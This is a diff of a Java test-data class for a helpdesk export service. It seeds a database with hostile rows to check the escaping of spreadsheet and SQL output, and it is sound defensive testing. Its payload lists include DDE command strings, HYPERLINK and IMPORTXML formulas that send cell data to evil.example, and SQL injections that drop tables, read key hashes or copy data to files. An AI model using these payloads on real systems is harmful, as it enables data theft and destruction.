@@ -4,8 +4,6 @@ import com.helpdesk.export.domain.model.ApiKey;
 import com.helpdesk.export.domain.model.KeyHash;
 import com.helpdesk.export.testsupport.Gen;
 import com.helpdesk.export.testsupport.Gens;
-
-import javax.sql.DataSource;
 import java.nio.charset.StandardCharsets;
 import java.sql.Array;
 import java.sql.Connection;
@@ -19,6 +17,7 @@ import java.time.ZoneOffset;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.UUID;
+import javax.sql.DataSource;
 
 /**
  * A third team, "Formula Corp", added to the hostile suite's own database: rows whose every text column starts like
@@ -34,24 +33,66 @@ final class HostileData {
     static final String TEST_KEY = "sk_test_FRMLsafety1Dt8Wr3Yq0Ml5No9Cw";
 
     /** Text values that start like a formula (contract §2: =, +, -, @, tab, CR), and well-known payloads. */
-    static final List<String> FORMULAS = List.of("=1+1", "+1", "-2", "@SUM(A1:A2)", "\t=cmd", "\r=cmd",
-            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "=cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@cmd", "+44 20 7946 0000", "-", "=", "@", "+", "\t", "\r", "\r\n=1",
-            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")");
+    static final List<String> FORMULAS = List.of(
+            "=1+1",
+            "+1",
+            "-2",
+            "@SUM(A1:A2)",
+            "\t=cmd",
+            "\r=cmd",
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+            "=cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@cmd",
+            "+44 20 7946 0000",
+            "-",
+            "=",
+            "@",
+            "+",
+            "\t",
+            "\r",
+            "\r\n=1",
+            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+            "=DDE(\"cmd\";\"/C calc\";\"x\")");
     /** Tags never hold white space: formula-like tags without it. */
     static final List<String> FORMULA_TAGS = List.of("=1+1", "+1", "-2", "@SUM(A1)", "=cmd|calc", "-", "@", "=");
     /** Strings that SQL would take for code if they were pasted into a statement. */
-    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE tickets; --", "%' OR 1=1 --",
-            "\\' OR 1=1 --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--", "$$; DROP TABLE customers; $$",
-            "') UNION SELECT key_hash::text FROM api_keys --", "%", "_", "\\", "\\%", "%%", "100% sure_",
-            "' || (SELECT current_user) || '", "E'\\x27'", "/**/OR/**/1=1", "admin'--", "1' AND SLEEP(5)#",
-            "'; COPY tickets TO '/tmp/x'; --", "$1", "?", ":name", "{fn now()}", "{d '2025-01-01'}",
-            "\\x00", "' AND 1=CAST((SELECT version()) AS int)--", "'||pg_sleep(5)||'", "*", "[a-z]", "^.*$");
+    static final List<String> INJECTIONS = List.of(
+            "' OR '1'='1",
+            "'; DROP TABLE tickets; --",
+            "%' OR 1=1 --",
+            "\\' OR 1=1 --",
+            "\" OR \"\"=\"",
+            "1; SELECT pg_sleep(5)--",
+            "$$; DROP TABLE customers; $$",
+            "') UNION SELECT key_hash::text FROM api_keys --",
+            "%",
+            "_",
+            "\\",
+            "\\%",
+            "%%",
+            "100% sure_",
+            "' || (SELECT current_user) || '",
+            "E'\\x27'",
+            "/**/OR/**/1=1",
+            "admin'--",
+            "1' AND SLEEP(5)#",
+            "'; COPY tickets TO '/tmp/x'; --",
+            "$1",
+            "?",
+            ":name",
+            "{fn now()}",
+            "{d '2025-01-01'}",
+            "\\x00",
+            "' AND 1=CAST((SELECT version()) AS int)--",
+            "'||pg_sleep(5)||'",
+            "*",
+            "[a-z]",
+            "^.*$");
 
     static final int RANDOM_ROWS = 120;
 
-    private HostileData() {
-    }
+    private HostileData() {}
 
     /** Adds the team, its keys and rows, unless the database has them already. */
     static synchronized void ensure(DataSource dataSource) {
@@ -80,7 +121,9 @@ final class HostileData {
 
     /** Distinct times with microseconds, and some ties, so that order and time output are exercised too. */
     private static OffsetDateTime time(int i) {
-        return Instant.parse("2024-03-01T10:00:00Z").plusSeconds(i / 2 * 37L).plusNanos((i % 7) * 1_001_000L)
+        return Instant.parse("2024-03-01T10:00:00Z")
+                .plusSeconds(i / 2 * 37L)
+                .plusNanos((i % 7) * 1_001_000L)
                 .atOffset(ZoneOffset.UTC);
     }
 
@@ -95,22 +138,40 @@ final class HostileData {
                 Gens.weight(3, Gens.ints(0x4E00, 0x4FFF)),
                 Gens.weight(2, Gens.ints(0x1F300, 0x1F64F)),
                 Gens.weight(tag ? 0 : 1, Gens.of(0xA0, 0x2028, 0x202E, 0xFEFF, 0x200B)));
-        return Gens.codePointStrings(codePoint, tag ? 1 : 0, 30).filter(s -> !tag || (!s.isEmpty() && s.codePoints().noneMatch(cp -> Character.isWhitespace(cp)
-                || Character.isSpaceChar(cp))));
+        return Gens.codePointStrings(codePoint, tag ? 1 : 0, 30)
+                .filter(s -> !tag
+                        || (!s.isEmpty()
+                                && s.codePoints()
+                                        .noneMatch(cp -> Character.isWhitespace(cp) || Character.isSpaceChar(cp))));
     }
 
     private static void insert(Connection c) throws SQLException {
         exec(c, "insert into teams (id, name) values (?, ?)", TEAM, "Formula Corp (hostile suite)");
-        exec(c, "insert into members (id, team_id, name, email, role) values (?, ?, ?, ?, 'owner')", OWNER, TEAM,
-                "=Formula Owner", "owner@formula.example");
+        exec(
+                c,
+                "insert into members (id, team_id, name, email, role) values (?, ?, ?, ?, 'owner')",
+                OWNER,
+                TEAM,
+                "=Formula Owner",
+                "owner@formula.example");
         // one text custom field each for tickets and customers: its values are the formula texts too
-        exec(c, "insert into custom_field_definitions (team_id, resource, key, label, kind, position) values "
-                + "(?, 'tickets', 'formula', '=Formula', 'text', 0), (?, 'customers', 'formula', '@Formula', 'text', 0)",
-                TEAM, TEAM);
+        exec(
+                c,
+                "insert into custom_field_definitions (team_id, resource, key, label, kind, position) values "
+                        + "(?, 'tickets', 'formula', '=Formula', 'text', 0), (?, 'customers', 'formula', '@Formula', 'text', 0)",
+                TEAM,
+                TEAM);
         for (String key : List.of(LIVE_KEY, TEST_KEY)) {
-            exec(c, "insert into api_keys (id, team_id, member_id, key_hash, display_prefix, kind, mode) "
-                            + "values (?, ?, ?, ?, ?, 'secret', ?)", UUID.nameUUIDFromBytes(key.getBytes()), TEAM, OWNER,
-                    KeyHash.of(ApiKey.parse(key)).bytes(), ApiKey.parse(key).displayPrefix(), key.startsWith("sk_live_") ? "live" : "test");
+            exec(
+                    c,
+                    "insert into api_keys (id, team_id, member_id, key_hash, display_prefix, kind, mode) "
+                            + "values (?, ?, ?, ?, ?, 'secret', ?)",
+                    UUID.nameUUIDFromBytes(key.getBytes()),
+                    TEAM,
+                    OWNER,
+                    KeyHash.of(ApiKey.parse(key)).bytes(),
+                    ApiKey.parse(key).displayPrefix(),
+                    key.startsWith("sk_live_") ? "live" : "test");
         }
         List<String> texts = new ArrayList<>(FORMULAS);
         texts.addAll(INJECTIONS);
@@ -130,41 +191,97 @@ final class HostileData {
                         : i % 3 == 0 ? new String[] {} : new String[] {randomTags.get(i % RANDOM_ROWS), "=x"};
                 OffsetDateTime created = time(n);
                 UUID customer = id("customer", mode, i);
-                exec(c, "insert into customers (id, team_id, mode, name, email, status, sentiment, tags, notes, "
+                exec(
+                        c,
+                        "insert into customers (id, team_id, mode, name, email, status, sentiment, tags, notes, "
                                 + "ticket_count, created_at, updated_at) values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
-                        customer, TEAM, mode, text, i % 5 == 4 ? null : second + "@formula.example",
-                        i % 2 == 0 ? "active" : "inactive", List.of("positive", "neutral", "negative").get(i % 3),
-                        tags, i % 4 == 3 ? null : text, i % 2 == 0 ? 0 : Integer.MAX_VALUE, created,
+                        customer,
+                        TEAM,
+                        mode,
+                        text,
+                        i % 5 == 4 ? null : second + "@formula.example",
+                        i % 2 == 0 ? "active" : "inactive",
+                        List.of("positive", "neutral", "negative").get(i % 3),
+                        tags,
+                        i % 4 == 3 ? null : text,
+                        i % 2 == 0 ? 0 : Integer.MAX_VALUE,
+                        created,
                         created.plusSeconds(i));
-                exec(c, "update customers set metadata = jsonb_build_object('text', ?::text), "
-                        + "custom_fields = jsonb_build_object('formula', ?::text) where id = ?", text, second, customer);
-                exec(c, "insert into tickets (id, team_id, mode, title, status, priority, customer_id, assigned_to, "
+                exec(
+                        c,
+                        "update customers set metadata = jsonb_build_object('text', ?::text), "
+                                + "custom_fields = jsonb_build_object('formula', ?::text) where id = ?",
+                        text,
+                        second,
+                        customer);
+                exec(
+                        c,
+                        "insert into tickets (id, team_id, mode, title, status, priority, customer_id, assigned_to, "
                                 + "tags, notes, created_at, updated_at, resolved_at, metadata, custom_fields) "
                                 + "values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, jsonb_build_object(?::text, ?::text), "
                                 + "jsonb_build_object('formula', ?::text))",
-                        id("ticket", mode, i), TEAM, mode, text,
+                        id("ticket", mode, i),
+                        TEAM,
+                        mode,
+                        text,
                         List.of("new", "open", "pending", "resolved", "closed").get(i % 5),
-                        List.of("low", "normal", "high", "urgent").get(i % 4), i % 3 == 0 ? null : customer,
-                        i % 2 == 0 ? OWNER : null, tags, i % 4 == 3 ? null : second,
-                        created, created.plusNanos(1_000), i % 5 == 3 ? created.plusDays(1) : null, text, second,
+                        List.of("low", "normal", "high", "urgent").get(i % 4),
+                        i % 3 == 0 ? null : customer,
+                        i % 2 == 0 ? OWNER : null,
+                        tags,
+                        i % 4 == 3 ? null : second,
+                        created,
+                        created.plusNanos(1_000),
+                        i % 5 == 3 ? created.plusDays(1) : null,
+                        text,
+                        second,
                         text);
                 // the conversation: the same texts, from the system and (where there is one) the customer
-                exec(c, "insert into messages (id, team_id, mode, ticket_id, sender, author_customer_id, sender_name, "
+                exec(
+                        c,
+                        "insert into messages (id, team_id, mode, ticket_id, sender, author_customer_id, sender_name, "
                                 + "is_internal, content, created_at) values (?, ?, ?, ?, 'system', null, ?, false, ?, ?)",
-                        id("message", mode, i), TEAM, mode, id("ticket", mode, i), second, text, created);
+                        id("message", mode, i),
+                        TEAM,
+                        mode,
+                        id("ticket", mode, i),
+                        second,
+                        text,
+                        created);
                 if (i % 3 != 0) {
-                    exec(c, "insert into messages (id, team_id, mode, ticket_id, sender, author_customer_id, "
+                    exec(
+                            c,
+                            "insert into messages (id, team_id, mode, ticket_id, sender, author_customer_id, "
                                     + "sender_name, is_internal, content, created_at) "
                                     + "values (?, ?, ?, ?, 'customer', ?, ?, false, ?, ?)",
-                            id("reply", mode, i), TEAM, mode, id("ticket", mode, i), customer, text, second,
+                            id("reply", mode, i),
+                            TEAM,
+                            mode,
+                            id("ticket", mode, i),
+                            customer,
+                            text,
+                            second,
                             created.plusSeconds(1));
                 }
-                exec(c, "insert into articles (id, team_id, mode, title, content, category, status, is_public, tags, "
+                exec(
+                        c,
+                        "insert into articles (id, team_id, mode, title, content, category, status, is_public, tags, "
                                 + "view_count, use_count, created_at, updated_at, published_at) "
                                 + "values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
-                        id("article", mode, i), TEAM, mode, text, second, i % 6 == 5 ? null : text,
-                        List.of("draft", "published", "archived").get(i % 3), i % 2 == 0, tags,
-                        i % 2 == 0 ? Integer.MAX_VALUE : 0, i, created, created, i % 3 == 1 ? created : null);
+                        id("article", mode, i),
+                        TEAM,
+                        mode,
+                        text,
+                        second,
+                        i % 6 == 5 ? null : text,
+                        List.of("draft", "published", "archived").get(i % 3),
+                        i % 2 == 0,
+                        tags,
+                        i % 2 == 0 ? Integer.MAX_VALUE : 0,
+                        i,
+                        created,
+                        created,
+                        i % 3 == 1 ? created : null);
             }
         }
     }
@@ -189,7 +306,8 @@ final class HostileData {
     }
 
     static int count(DataSource dataSource, String sql, Object... args) {
-        try (Connection c = dataSource.getConnection(); PreparedStatement s = c.prepareStatement(sql)) {
+        try (Connection c = dataSource.getConnection();
+                PreparedStatement s = c.prepareStatement(sql)) {
             for (int i = 0; i < args.length; i++) {
                 s.setObject(i + 1, args[i]);
             }
@@ -204,7 +322,8 @@ final class HostileData {
 
     /** The public ids of a query's rows ({@code select id ...}), in its order. */
     static List<String> ids(DataSource dataSource, String prefix, String sql, Object... args) {
-        try (Connection c = dataSource.getConnection(); PreparedStatement s = c.prepareStatement(sql)) {
+        try (Connection c = dataSource.getConnection();
+                PreparedStatement s = c.prepareStatement(sql)) {
             for (int i = 0; i < args.length; i++) {
                 if (args[i] instanceof Instant instant) {
                     s.setObject(i + 1, instant.atOffset(ZoneOffset.UTC), Types.TIMESTAMP_WITH_TIMEZONE);
